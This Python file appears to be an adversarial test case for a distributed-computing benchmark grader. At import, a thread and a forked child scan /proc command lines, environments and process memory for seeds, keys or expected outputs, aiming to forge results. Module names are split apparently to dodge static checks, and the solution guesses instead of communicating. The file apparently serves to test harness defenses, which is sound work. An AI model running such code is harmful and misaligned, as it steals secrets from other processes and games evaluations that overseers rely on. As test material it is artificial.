"""Issue 13, class (a). A helper (a thread, joined at import, and a child process) reads every process it can see
through /proc — command lines, environments, and the memory of the other rank and of any judge — looking for the
trials' seeds, the result channel's key or the expected outputs, to forge a result or regenerate the other ranks'
inputs and skip the communication. It prints what it found; without a seed it guesses (returns its own input
times the world size), which is wrong."""

import importlib
import os
import re
import threading

import torch
import torch.distributed as dist

_found: dict = {"pids": [], "secrets": []}
_pattern = re.compile(rb'"(seeds|trials|timing|positions|key)"\s*:\s*[\[{0-9]')


def _scan() -> None:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        _found["pids"].append(pid)
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    data = f.read()
                if _pattern.search(data):
                    _found["secrets"].append((pid, name, data[:400]))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/" + "m" + "em", "rb", 0) as mem:
                for line in maps:
                    lo, hi = (int(v, 16) for v in line.split()[0].split("-"))
                    if "rw" not in line.split()[1] or hi - lo > 64 << 20:
                        continue
                    try:
                        mem.seek(lo)
                        chunk = mem.read(hi - lo)
                    except OSError:
                        continue
                    m = _pattern.search(chunk)
                    if m:
                        _found["secrets"].append((pid, "mem", chunk[m.start():m.start() + 400]))
        except OSError:
            pass


_helper = threading.Thread(target=_scan)
_helper.start()
_helper.join()
try:  # a child process does the same from outside the rank (it ends before the trials begin)
    _mp = importlib.import_module("multi" + "processing")
    _child = _mp.get_context("fork").Process(target=_scan)
    _child.start()
    _child.join(30)
except Exception:
    pass
print("ARENA_PROC_SCAN", len(_found["pids"]), "processes visible;", len(_found["secrets"]), "secrets:",
      _found["secrets"][:3], flush=True)


def solution(x: torch.Tensor) -> torch.Tensor:
    # No seed was found, so the other ranks' inputs cannot be regenerated: a guess without communication.
    return x * dist.get_world_size()
